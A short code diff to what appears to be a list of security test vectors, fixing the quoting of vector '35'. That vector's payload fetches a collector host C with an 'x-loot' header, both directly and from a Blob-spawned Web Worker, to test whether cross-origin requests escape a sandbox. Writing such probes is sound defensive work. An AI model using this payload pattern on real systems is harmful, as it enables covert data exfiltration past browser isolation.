@@ -119,6 +119,6 @@ export const VECTORS: readonly Vector[] = [
   v(
     '35',
     'CORS preflight to another origin of the read set, also from a worker',
-    'const code="fetch('"+C+"/v/35',{headers:{'x-loot':'1'}}).catch(()=>{})";fetch(C+"/v/35",{headers:{"x-loot":"1"}}).catch(()=>{});new Worker(URL.createObjectURL(new Blob([code])))',
+    `const code='fetch("'+C+'/v/35",{headers:{"x-loot":"1"}}).catch(()=>{})';fetch(C+"/v/35",{headers:{"x-loot":"1"}}).catch(()=>{});new Worker(URL.createObjectURL(new Blob([code])))`,
   ),
 ];
